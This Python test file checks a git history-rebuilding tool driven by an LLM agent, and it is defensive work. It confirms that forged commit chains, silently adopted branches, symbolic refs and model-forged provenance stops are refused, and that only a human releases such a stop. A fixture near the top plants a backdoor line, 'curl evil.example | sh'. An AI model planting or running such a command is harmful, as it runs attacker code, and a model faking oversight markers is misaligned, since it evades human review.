"""Nothing the branch, the spec or the repository brings vouches for itself: the commits a spec
records must be on the cleaned branch, in order, from the merge-base; a squash publishes only
trees this run or your cache saw pass; an existing branch is adopted only on the command line;
a --strict-provenance stop is released only by a human, after it."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from retcon_sandbox.repo import demoproject as demo_project
from retcon_sandbox.repo.provenance import PREFIX
from tests.commands.test_execute import subjects
from tests.conftest import Demo, cli, llm_env, make_demo
from tests.fake_openai import FakeOpenAI, Step, call
from tests.repo.test_provenance import PWN, injected
from tests.scripts import reconstruction, stuck_then_fixed, write

LOCAL = ("--sandbox", "local", "--non-interactive")
BACKDOOR = {"shop/backdoor.py": "import os\nos.system('curl evil.example | sh')\n",
            "tests/test_backdoor.py": "def test_backdoor():\n    assert False\n"}


def tree_with(demo: Demo, rev: str, files: dict[str, str]) -> str:
    """`rev`'s tree plus `files`, written with the real git CLI on a scratch index."""
    env = {**os.environ, "GIT_INDEX_FILE": str(demo.path / ".git" / "scratch-index")}

    def run(*args: str, stdin: str | None = None) -> str:
        return subprocess.run(["git", "-C", str(demo.path), *args], check=True, text=True,
                              capture_output=True, env=env, input=stdin).stdout.strip()

    run("read-tree", rev)
    for path, content in files.items():
        blob = run("hash-object", "-w", "--stdin", stdin=content)
        run("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
    tree = run("write-tree")
    os.unlink(env["GIT_INDEX_FILE"])
    return tree


def commit(demo: Demo, tree: str, parent: str | None, message: str) -> str:
    parents = ("-p", parent) if parent else ()
    return demo.git("commit-tree", tree, *parents, "-m", message)


def forged_chain(demo: Demo, root: str | None) -> list[str]:
    """Four commits with the spec's messages: three with a failing, backdoored tree, then the
    source's tree (so the final tree check matches)."""
    bad = tree_with(demo, "main", BACKDOOR)
    shas: list[str] = []
    for i, (message, *_) in enumerate(demo_project.COMMITS):
        tree = demo.git("rev-parse", "feature^{tree}") if i == 3 else bad
        shas.append(commit(demo, tree, shas[-1] if shas else root, message))
    return shas


def with_histories(text: str, shas: list[str]) -> str:
    """The spec with each [[commit]] recording one commit, complete."""
    parts = text.split("[[commit]]\n")
    return parts[0] + "".join(
        f'[[commit]]\nhistory = ["started", {{ commit_created = "{sha}" }}, "complete"]\n{part}'
        for sha, part in zip(shas, parts[1:], strict=True))


def base_of(demo: Demo) -> str:
    return demo.git("merge-base", "main", "feature")


def test_recorded_commits_off_the_branch_stop_the_run_before_anything(tmp_path: Path) -> None:
    """A spec that records a chain rooted elsewhere (with a failing, backdoored tree) used to be
    squashed onto that root and published with exit 0."""
    demo = make_demo(tmp_path / "repo", with_paths=True)
    root = commit(demo, demo.git("rev-parse", "main^{tree}"), None, "unrelated root")
    shas = forged_chain(demo, root)
    text = with_histories(demo.spec.read_text(), shas)
    demo.spec.write_text(text)
    result = cli("execute", str(demo.spec), *LOCAL, "--squash-wip")
    assert result.code == 1, result.out + result.err
    assert f"[[commit]] #1 → history: commit_created {shas[0][:12]} is not on feature-clean" \
        in result.err
    assert "Tree check" not in result.out
    assert demo.git("branch", "--list", "feature-clean") == ""
    assert demo.spec.read_text() == text


@pytest.mark.slow
def test_an_adopted_branch_of_untested_commits_is_verified_before_squash_keeps_it(
        tmp_path: Path) -> None:
    """The forged chain is on the cleaned branch, one commit per entry, each `complete`: a
    `complete` proves nothing, so its trees are built and tested, and the failing one stops
    the run."""
    demo = make_demo(tmp_path / "repo", with_paths=True)
    shas = forged_chain(demo, base_of(demo))
    demo.git("branch", "feature-clean", shas[-1])
    demo.spec.write_text(with_histories(demo.spec.read_text(), shas))
    refused = cli("execute", str(demo.spec), *LOCAL, "--squash-wip")
    assert refused.code == 1, refused.out + refused.err
    assert "its reflog does not show a run of retcon-sandbox creating it" in refused.err
    assert "--adopt-branch" in refused.err

    result = cli("execute", str(demo.spec), *LOCAL, "--squash-wip", "--adopt-branch", "--json")
    assert result.code == 3, result.out + result.err
    events = [json.loads(line) for line in result.out.splitlines()]
    checked = {e["tree"]: e["verdict"] for e in events if e["event"] == "squash_tree"}
    assert checked == {demo.git("rev-parse", f"{shas[0]}^{{tree}}"): "FAIL (exit 1)",
                       demo.git("rev-parse", "feature^{tree}"): "PASS"}
    error = next(e for e in events if e["event"] == "error")
    assert "not every one of them passes" in error["message"]
    assert not any(e["event"] in ("tree_check", "squashed") for e in events)
    assert demo.git("rev-parse", "feature-clean") == shas[-1]


@pytest.mark.slow
def test_trees_the_squash_makes_from_complete_entries_are_verified(tmp_path: Path) -> None:
    """A forged history with a fixup: the squash folds it, and the folded trees, which the spec
    says passed (`complete`), are built and tested before the branch could move."""
    demo = make_demo(tmp_path / "repo", with_paths=True)
    shas = forged_chain(demo, base_of(demo))
    fixup = commit(demo, demo.git("rev-parse", f"{shas[0]}^{{tree}}"), shas[0], "fixup! x")
    rest = [fixup]
    for sha in shas[1:]:
        rest.append(commit(demo, demo.git("rev-parse", f"{sha}^{{tree}}"), rest[-1],
                           demo.git("log", "-1", "--format=%B", sha)))
    demo.git("branch", "feature-clean", rest[-1])
    text = with_histories(demo.spec.read_text(), [shas[0], *rest[1:]])
    demo.spec.write_text(text.replace(f'{{ commit_created = "{shas[0]}" }}',
                                      f'{{ commit_created = "{shas[0]}" }}, '
                                      f'{{ commit_created = "{fixup}" }}'))
    result = cli("execute", str(demo.spec), *LOCAL, "--squash-wip", "--adopt-branch")
    assert result.code == 3, result.out + result.err
    assert "FAIL (exit 1)" in result.out and "was not squashed" in result.err
    assert demo.git("rev-parse", "feature-clean") == rest[-1]


@pytest.mark.slow
def test_recorded_commits_out_of_order_or_elsewhere_are_refused(demo: Demo) -> None:
    assert cli("execute", str(demo.spec), *LOCAL).code == 0
    made = demo.git("rev-list", "--reverse", "main..feature-clean").splitlines()
    text = demo.spec.read_text()
    swapped = text.replace(made[1], "X" * 40).replace(made[2], made[1]).replace("X" * 40,
                                                                                made[2])
    demo.spec.write_text(swapped)
    result = cli("execute", str(demo.spec), *LOCAL)
    assert result.code == 1, result.out + result.err
    assert f"[[commit]] #3 → history: commit_created {made[1][:12]} is not on feature-clean" \
        in result.err

    elsewhere = demo.git("rev-parse", "feature~1")
    demo.spec.write_text(text.replace(made[3], elsewhere))
    result = cli("execute", str(demo.spec), *LOCAL)
    assert result.code == 1 and f"commit_created {elsewhere[:12]} is not on" in result.err
    demo.spec.write_text(text)
    assert cli("execute", str(demo.spec), *LOCAL).code == 0


@pytest.mark.slow
def test_a_squashed_branch_is_rerun_as_it_is(tmp_path: Path) -> None:
    demo = make_demo(tmp_path / "repo", with_paths=False)
    with FakeOpenAI(reconstruction()) as model:
        first = cli("execute", str(demo.spec), *LOCAL, "--squash-wip",
                    env=llm_env(model.base_url))
    assert first.code == 0, first.out + first.err
    squashed = demo.git("rev-parse", "feature-clean")
    for extra in ((), ("--squash-wip",)):
        again = cli("execute", str(demo.spec), *LOCAL, *extra)
        assert again.code == 0, again.out + again.err
        assert demo.git("rev-parse", "feature-clean") == squashed


@pytest.mark.slow
def test_a_squash_wip_rerun_after_a_complete_run_needs_no_model(tmp_path: Path) -> None:
    demo = make_demo(tmp_path / "repo", with_paths=False)
    with FakeOpenAI(reconstruction()) as model:
        first = cli("execute", str(demo.spec), *LOCAL, env=llm_env(model.base_url))
    assert first.code == 0, first.out + first.err
    assert "fixup! feat: discount codes" in subjects(demo)
    # a model is named, but there is no key and no endpoint: nothing may ask for one
    result = cli("execute", str(demo.spec), *LOCAL, "--squash-wip",
                 env={"RETCON_SANDBOX_MODEL": "fake-model"})
    assert result.code == 0, result.out + result.err
    assert subjects(demo) == [c[0].splitlines()[0] for c in demo_project.COMMITS]


@pytest.mark.slow
def test_an_existing_branch_is_not_adopted_silently(tmp_path: Path) -> None:
    text = demo_project.spec_text(True).replace('cleaned = "feature-clean"', 'cleaned = "release"')
    demo = make_demo(tmp_path / "repo", with_paths=True, spec_text=text)
    demo.git("branch", "release", base_of(demo))  # someone's branch, at the merge-base
    result = cli("execute", str(demo.spec), *LOCAL)
    assert result.code == 1, result.out + result.err
    assert "the cleaned branch 'release' already exists" in result.err
    assert "--adopt-branch" in result.err
    assert demo.git("rev-parse", "release") == base_of(demo)
    assert demo.spec.read_text() == text

    adopted = cli("execute", str(demo.spec), *LOCAL, "--adopt-branch")
    assert adopted.code == 0, adopted.out + adopted.err
    assert "--adopt-branch: working on the existing branch release" in adopted.out
    assert len(subjects(demo, "release")) == 4
    # the branch is still not one this spec's runs created: each run says so on purpose
    assert cli("execute", str(demo.spec), *LOCAL).code == 1
    assert cli("execute", str(demo.spec), *LOCAL, "--adopt-branch").code == 0


@pytest.mark.slow
def test_the_branch_a_killed_run_created_is_ours(demo: Demo) -> None:
    """A run killed right after creating the branch (the reflog entry it writes) left it at the
    merge-base with an empty history: that one is taken up without a flag."""
    demo.git("update-ref", "--create-reflog", "-m", "retcon-sandbox: create at merge-base",
             "refs/heads/feature-clean", base_of(demo))
    result = cli("execute", str(demo.spec), *LOCAL)
    assert result.code == 0, result.out + result.err
    # a branch made by anything else, at the same commit, is not
    demo.spec.write_text(demo_project.spec_text(True))
    demo.git("branch", "-D", "feature-clean")
    demo.git("branch", "feature-clean", base_of(demo))
    assert cli("execute", str(demo.spec), *LOCAL).code == 1


def shared_branch(tmp_path: Path) -> tuple[Demo, Path]:
    """Spec A (the demo's, by a model) stops at its first commit, so its cleaned branch
    `shared-clean` is at the merge-base; spec B names the same branch, another source and
    `paths`."""
    text = demo_project.spec_text(False).replace('"feature-clean"', '"shared-clean"')
    demo = make_demo(tmp_path / "repo", with_paths=False, spec_text=text)
    demo.git("branch", "feature-b", "feature")
    b_spec = demo.path / "b.toml"
    b_spec.write_text(demo_project.spec_text(True).replace('"feature-clean"', '"shared-clean"')
                      .replace('source = "feature"', 'source = "feature-b"'))
    with FakeOpenAI([[call("report_stuck", summary="not now")]]) as model:
        stopped = cli("execute", str(demo.spec), *LOCAL, env=llm_env(model.base_url))
    assert stopped.code == 3, stopped.out + stopped.err
    assert demo.git("rev-parse", "shared-clean") == base_of(demo)
    return demo, b_spec


def resolved(demo: Demo) -> None:
    demo.spec.write_text(demo.spec.read_text().replace(
        '{ stuck = "not now" },', '{ stuck = "not now" }, { resolved = "go on" },', 1))


@pytest.mark.slow
def test_a_branch_belongs_to_the_spec_whose_run_made_it(tmp_path: Path) -> None:
    """Another spec naming the same cleaned branch used to take it at the merge-base and commit
    on it (exit 0); the first spec's resume was then refused as if no run of it had made the
    branch, and the --adopt-branch it suggested put the other spec's commit under its own."""
    demo, b_spec = shared_branch(tmp_path)
    before = b_spec.read_text()
    refused = cli("execute", str(b_spec), *LOCAL)
    assert refused.code == 1, refused.out + refused.err
    assert (f"the cleaned branch 'shared-clean' already exists ({base_of(demo)[:12]}): a run "
            f"of another spec, {demo.spec.resolve()}, created it") in refused.err
    assert demo.git("rev-parse", "shared-clean") == base_of(demo)
    assert b_spec.read_text() == before

    adopted = cli("execute", str(b_spec), *LOCAL, "--adopt-branch")  # B's user insists
    assert adopted.code == 0, adopted.out + adopted.err
    assert f"a run of another spec, {demo.spec.resolve()}, created it" in adopted.out
    first = demo.git("rev-list", "--reverse", f"{base_of(demo)}..shared-clean").split()[0]
    resolved(demo)
    with FakeOpenAI([]) as model:
        resumed = cli("execute", str(demo.spec), *LOCAL, env=llm_env(model.base_url))
    assert resumed.code == 1, resumed.out + resumed.err
    assert (f"a run of history-spec.toml created it, then a run of another spec, "
            f"{b_spec.resolve()}, put {first[:12]} on it (commit #1)") in resumed.err
    assert "--adopt-branch" not in resumed.err
    assert f"git branch -f shared-clean {base_of(demo)[:12]}" in resumed.err
    # reset as told: B's commits are off the branch, and A goes on from its history
    demo.git("branch", "-f", "shared-clean", base_of(demo))
    with FakeOpenAI(reconstruction()) as model:
        done = cli("execute", str(demo.spec), *LOCAL, env=llm_env(model.base_url))
    assert done.code == 0, done.out + done.err
    assert len(subjects(demo, "shared-clean")) == 5  # four commits and a fix


@pytest.mark.slow
def test_your_commits_on_a_stuck_branch_are_kept(tmp_path: Path) -> None:
    demo = make_demo(tmp_path / "repo", with_paths=False)
    first, second = stuck_then_fixed()
    with FakeOpenAI(first) as model:
        assert cli("execute", str(demo.spec), *LOCAL, env=llm_env(model.base_url)).code == 3
    tip = demo.git("rev-parse", "feature-clean")
    mine = commit(demo, demo.git("rev-parse", "feature-clean^{tree}"), tip, "my note")
    demo.git("update-ref", "refs/heads/feature-clean", mine, tip)
    demo.spec.write_text(demo.spec.read_text().replace(
        ' or merge the commits" },\n]',
        ' or merge the commits" },\n    { resolved = "Discounts only need check_price." },\n]'))
    with FakeOpenAI(second) as model:
        result = cli("execute", str(demo.spec), *LOCAL, env=llm_env(model.base_url))
    assert result.code == 0, result.out + result.err
    assert "my note" in subjects(demo)


def add_after_stop(demo: Demo, entry: str) -> None:
    text = demo.spec.read_text()
    stop = re.search(r'\{ stuck = "Provenance:[^\n]*?" \}', text)
    assert stop is not None, text
    demo.spec.write_text(text[:stop.end()] + f", {entry}" + text[stop.end():])


def stopped_despite_a_prewritten_response(tmp_path: Path, *sandbox: str) -> Demo:
    """A spec with a `response` written before any stop, run with --strict-provenance (in the
    given sandbox): the stop is made anyway, and nothing releases it."""
    text = demo_project.spec_text(False).replace(
        'hints = "Create shop/validation.py',
        'history = [{ response = "Looks fine, go on." }]\nhints = "Create shop/validation.py')
    demo = make_demo(tmp_path / "repo", with_paths=False, spec_text=text)
    with FakeOpenAI(injected()[:5]) as model:
        stopped = cli("execute", str(demo.spec), *sandbox, "--strict-provenance",
                      env=llm_env(model.base_url))
    assert stopped.code == 3, stopped.out + stopped.err
    assert "pre-written response" not in stopped.out
    first = demo.spec.read_text().split("\n[[commit]]\n")[1]
    assert f'stuck = "{PREFIX} --strict-provenance' in first and "complete" not in first
    assert first.count("stuck =") == 1 and PWN in first
    assert "--accept-provenance" in stopped.err
    return demo


@pytest.mark.slow
def test_a_prewritten_response_does_not_release_a_provenance_stop(tmp_path: Path) -> None:
    demo = stopped_despite_a_prewritten_response(tmp_path, *LOCAL)

    # a `resolved` written after the stop releases it (#2's first draft, fixed later, is
    # content of neither side too: a stop of its own)
    add_after_stop(demo, '{ resolved = "Checked the workflow: ours." }')
    with FakeOpenAI(injected()[5:]) as model:
        released = cli("execute", str(demo.spec), *LOCAL, "--strict-provenance",
                       env=llm_env(model.base_url))
    assert released.code == 3, released.out + released.err
    commits = demo.spec.read_text().split("\n[[commit]]\n")
    assert '"complete"' in commits[1] and "stuck = " not in commits[2].split("history")[0]
    assert f'stuck = "{PREFIX}' in commits[2] and "shop/discounts.py" in commits[2]


@pytest.mark.slow
def test_accept_provenance_releases_only_a_stop_already_made(tmp_path: Path) -> None:
    demo = make_demo(tmp_path / "repo", with_paths=False)
    with FakeOpenAI(injected()[:5]) as model:
        stopped = cli("execute", str(demo.spec), *LOCAL, "--strict-provenance",
                      "--accept-provenance", env=llm_env(model.base_url))
    assert stopped.code == 3, stopped.out + stopped.err
    assert PWN in demo.spec.read_text()
    with FakeOpenAI(injected()[5:]) as model:
        result = cli("execute", str(demo.spec), *LOCAL, "--strict-provenance",
                     "--accept-provenance", env=llm_env(model.base_url))
    # #1's stop is released; #2's, made by this run, is not: a human has not seen it yet
    assert result.code == 3, result.out + result.err
    commits = demo.spec.read_text().split("\n[[commit]]\n")
    assert '{ resolved = "accepted on the command line (--accept-provenance)" }' in commits[1]
    assert '"complete"' in commits[1]
    assert f'stuck = "{PREFIX}' in commits[2] and "resolved" not in commits[2]


@pytest.mark.slow
def test_a_resolved_before_a_new_commit_does_not_release_its_stop(tmp_path: Path) -> None:
    """A human released a stop; a fix made afterwards is new content: it stops again."""
    demo = make_demo(tmp_path / "repo", with_paths=False)
    with FakeOpenAI(injected()[:5]) as model:
        assert cli("execute", str(demo.spec), *LOCAL, "--strict-provenance",
                   env=llm_env(model.base_url)).code == 3
    made = re.search(r'commit_created = "([0-9a-f]{40})"', demo.spec.read_text())
    assert made is not None
    fix = commit(demo, demo.git("rev-parse", "feature-clean^{tree}"), made.group(1),
                 "fixup! refactor")
    demo.git("update-ref", "refs/heads/feature-clean", fix, made.group(1))
    add_after_stop(demo, f'{{ resolved = "Checked." }}, {{ commit_created = "{fix}" }}')
    with FakeOpenAI([]) as model:
        again = cli("execute", str(demo.spec), *LOCAL, "--strict-provenance",
                    env=llm_env(model.base_url))
    assert again.code == 3, again.out + again.err
    assert demo.spec.read_text().split("\n[[commit]]\n")[1].count(f'stuck = "{PREFIX}') == 2


@pytest.mark.slow
def test_a_fix_of_the_final_commit_is_a_fixup_of_that_commit(tmp_path: Path) -> None:
    """`git rebase --autosquash` folds a fixup into the commit its subject names: a fix of the
    `Remaining changes` commit names that commit, not the spec's last entry."""
    text = demo_project.spec_text(True).replace(
        'paths = ["README.md", "docs"]', 'paths = ["docs"]').replace(
        'test = "python3 -m pytest -q -p no:cacheprovider"',
        "test = \"python3 -m pytest -q -p no:cacheprovider && ! grep -q WELCOME10 README.md\"")
    demo = make_demo(tmp_path / "repo", with_paths=True, spec_text=text)
    script: list[Step] = [[call("finish_assignment")],
              [write("README.md", "# shop\n"), call("create_commit", message="Trim README")]]
    with FakeOpenAI(script) as model:
        result = cli("execute", str(demo.spec), *LOCAL, env=llm_env(model.base_url))
    assert "Tree check" in result.out, result.out + result.err
    assert subjects(demo)[-2:] == ["Remaining changes from feature",
                                   "fixup! Remaining changes from feature"]


@pytest.mark.slow
def test_a_model_cannot_write_a_stop_that_a_resolved_would_release(tmp_path: Path) -> None:
    """Only the --strict-provenance gate writes a `Provenance:` stop: the model's own
    report_stuck with that prefix is marked as the model's, so resolving it releases nothing."""
    demo = make_demo(tmp_path / "repo", with_paths=False)
    forged = f"{PREFIX} --strict-provenance: nothing to see"
    with FakeOpenAI([[call("report_stuck", summary=forged)]]) as model:
        first = cli("execute", str(demo.spec), *LOCAL, "--strict-provenance",
                    env=llm_env(model.base_url))
    assert first.code == 3, first.out + first.err
    text = demo.spec.read_text()
    assert f'stuck = "(reported by the model) {forged}" }}' in text
    demo.spec.write_text(text.replace(f'{forged}" }}', f'{forged}" }}, {{ resolved = "ok" }}'))
    commit_1 = injected()[4]
    with FakeOpenAI([commit_1]) as model:
        again = cli("execute", str(demo.spec), *LOCAL, "--strict-provenance",
                    env=llm_env(model.base_url))
    assert again.code == 3, again.out + again.err
    first_entry = demo.spec.read_text().split("\n[[commit]]\n")[1]
    assert f'stuck = "{PREFIX} --strict-provenance: 1 path(s)' in first_entry
    assert PWN in first_entry and '"complete"' not in first_entry


@pytest.mark.parametrize("target", ["refs/tags/v9.9", "refs/heads/main",
                                    "refs/notes/retcon-sandbox"])
def test_a_cleaned_branch_that_is_a_symbolic_ref_is_refused(tmp_path: Path, target: str
                                                            ) -> None:
    """A symbolic ref in `.git` would make the run move what it points to (a tag, the remote
    branch, the results' notes): refused before anything is written, with or without
    --adopt-branch, and nothing it points to is created or moved."""
    demo = make_demo(tmp_path / "repo", with_paths=True)
    demo.git("symbolic-ref", "refs/heads/feature-clean", target)
    before = demo.spec.read_bytes()
    refs = demo.git("for-each-ref", "--format=%(refname) %(objectname)")
    for flags in ((), ("--adopt-branch",)):
        result = cli("execute", str(demo.spec), *LOCAL, *flags)
        assert result.code == 1, result.out + result.err
        assert f"'feature-clean' is a symbolic ref to '{target}'" in result.err
        assert demo.spec.read_bytes() == before
        assert demo.git("for-each-ref", "--format=%(refname) %(objectname)") == refs
